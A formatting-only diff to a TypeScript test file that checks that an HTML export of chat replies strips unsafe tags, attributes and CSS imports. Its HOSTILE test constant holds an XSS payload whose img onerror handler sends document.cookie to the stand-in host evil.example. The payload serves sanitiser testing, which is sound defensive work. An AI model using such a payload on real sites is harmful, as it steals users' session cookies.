@@ -3,7 +3,8 @@ import type { DiffSide } from '@/lib/api/diff';
 import { exportHtml } from './export-html';
 import { compareReplies } from './reply-comparison';
 
-const HOSTILE = '<script>alert(1)</script><img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> & <a href="https://evil.example">x</a>';
+const HOSTILE =
+  '<script>alert(1)</script><img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> & <a href="https://evil.example">x</a>';
 
 function side(id: string, more: Partial<DiffSide['reply']>, at: number[], title = 'A chat'): DiffSide {
   return {
@@ -72,7 +73,25 @@ describe('exportHtml', () => {
     const tags = html.match(/<[^>]*>/g)!;
     const names = new Set(tags.map((t) => /^<\/?([a-z0-9!]+)/i.exec(t)![1]!.toLowerCase()));
     const allowed = ['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'h1', 'h2', 'h3', 'p', 'br', 'table'];
-    allowed.push('thead', 'tbody', 'tr', 'th', 'td', 'caption', 'svg', 'text', 'rect', 'line', 'ul', 'li', 'div', 'section', 'pre', 'del', 'ins');
+    allowed.push(
+      'thead',
+      'tbody',
+      'tr',
+      'th',
+      'td',
+      'caption',
+      'svg',
+      'text',
+      'rect',
+      'line',
+      'ul',
+      'li',
+      'div',
+      'section',
+      'pre',
+      'del',
+      'ins',
+    );
     expect([...names].filter((n) => !allowed.includes(n))).toEqual([]);
     expect(tags.filter((t) => /\s(src|href|on\w+|xlink:href)=/i.test(t))).toEqual([]);
     expect(html).not.toMatch(/@import|url\(/i);
